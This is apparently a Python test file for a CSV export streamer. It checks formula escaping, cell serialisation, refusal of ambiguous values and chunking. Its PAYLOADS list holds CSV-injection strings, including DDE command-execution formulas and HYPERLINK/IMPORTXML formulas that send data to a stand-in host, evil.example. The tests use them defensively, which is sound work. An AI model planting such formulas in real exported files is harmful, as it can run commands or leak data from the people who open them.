"""Cells arrive as they were sent, and no spreadsheet computes one."""

import csv
import datetime as dt
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from snippets.bulk_download.csv_stream import Cell, CellError, Dialect, csv_chunks, safe_text
from tests.scenarios.bulk_download.conftest import Demo

AT = dt.datetime(2026, 11, 22, 2, 10, tzinfo=dt.UTC)
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
    "=DDE(1)",
    '=IMPORTXML("http://evil.example/","//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=1+1";=1+1',
    "=",
    "\0=1+1",
]


def written(rows: list[tuple[Cell, ...]], dialect: Dialect | None = None) -> str:
    header = [f"c{number}" for number in range(len(rows[0]))]
    chunks = csv_chunks(rows, header, dialect=dialect or Dialect())
    return b"".join(chunks).decode()


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    (row,) = read(written([(1, payload, 2)]))
    assert row[1].startswith("'" + payload[0])


@pytest.mark.parametrize("escape", [True, False])
@pytest.mark.parametrize("payload", [*PAYLOADS, "x;=1+1;", 'x;"=1+1";', "x\t=1", "a\r\n=1", "a,-1"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_reader_finds_a_formula_wherever_it_splits(
    payload: str, delimiter: str, escape: bool
) -> None:
    text = written([("a", payload, "b")], Dialect(escape=escape))
    cells = [cell for row in read(text, delimiter) for cell in row]
    cells += [cell for line in text.splitlines() for cell in line.split(delimiter)]  # no quotes
    found = [cell for cell in cells if cell.lstrip('"').startswith(tuple("=+-@"))]
    assert bool(found) <= (not escape)


def test_text_that_is_harmless_is_untouched_and_machines_get_every_cell_as_it_is() -> None:
    assert safe_text("a=b") == "a=b"
    for text in ("", "two\r\nlines", "a; b, c", "a,\tb"):
        assert safe_text(text) == text
    assert read(written([("=1+1",)], Dialect(escape=False))) == [["=1+1"]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""),
        ("", '""'),
        (-12.5, "-12.5"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (Decimal("1E+400"), "1" + "0" * 400),
        (-7, "-7"),
        (10**400, "1" + "0" * 400),
        (True, "true"),
        (AT, "2026-11-22T02:10:00+00:00"),
        (AT.date(), "2026-11-22"),
        (" a", '" a"'),
        ('say "hi"', '"say ""hi"""'),
    ],
)
def test_each_kind_of_cell_has_one_form(cell: Cell, text: str) -> None:
    assert written([(1, cell)]) == f"c0,c1\r\n1,{text}\r\n"


@pytest.mark.parametrize(
    ("cell", "why"),
    [
        (float("nan"), "nan is no number"),
        (float("-inf"), "-inf is no number"),
        (Decimal("sNaN"), "sNaN is no number"),
        (AT.replace(tzinfo=None), "no time zone"),
        (b"bytes", "no rule for bytes"),
    ],
)
def test_a_cell_without_one_meaning_is_refused(cell: Cell, why: str) -> None:
    with pytest.raises(CellError, match=why):
        written([(cell,)])


text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)


@settings(max_examples=60)
@given(st.lists(st.tuples(text, text), min_size=1, max_size=5), st.sampled_from(",;\t|"))
def test_another_reader_gets_back_what_was_written(
    rows: list[tuple[Cell, ...]], delimiter: str
) -> None:
    dialect = Dialect(delimiter=delimiter, escape=False)
    assert read(written(rows, dialect), delimiter) == [list(row) for row in rows]


def test_the_header_comes_before_the_first_row_is_asked_for() -> None:
    asked: list[int] = []

    def rows() -> Iterator[tuple[Cell, ...]]:
        for number in range(10):
            asked.append(number)
            yield (number,)

    chunks = csv_chunks(rows(), ["n"], size=9)
    assert next(chunks) == b"n\r\n"
    assert asked == []
    assert [len(chunk) for chunk in chunks] == [9, 9, 9, 3]
    assert list(csv_chunks([], ["n"])) == [b"n\r\n"]
    assert [*csv_chunks([(1,)], ["n"], size=3)][1:] == [b"1\r\n"]


def test_excel_gets_its_byte_order_mark_once() -> None:
    chunks = list(csv_chunks([("ä",)], ["ö"], dialect=Dialect(bom=True)))
    assert b"".join(chunks).decode("utf-8-sig") == "ö\r\nä\r\n"
    assert b"".join(chunks).count(b"\xef\xbb\xbf") == 1


def test_a_row_of_another_length_and_a_size_below_one_are_refused() -> None:
    with pytest.raises(ValueError, match="2 cells under 1 names"):
        list(csv_chunks([(1, 2)], ["n"]))
    with pytest.raises(ValueError, match="at least 1 byte, got 0"):
        list(csv_chunks([], ["n"], size=0))


def test_an_error_of_the_rows_is_not_an_end() -> None:
    def rows() -> Iterator[tuple[Cell, ...]]:
        yield (1,)
        raise ConnectionError

    with pytest.raises(ConnectionError):
        list(csv_chunks(rows(), ["n"]))


def test_the_demo_shows_what_happens_to_each_cell(demo: Demo) -> None:
    lines = demo("csv_stream")
    assert lines[1].startswith("1,\"'=HYPERLINK")
    assert lines[4:6] == ["4,'-12.5", "5,-12.5"]
    assert lines[7:] == ['7,""', "8,"]
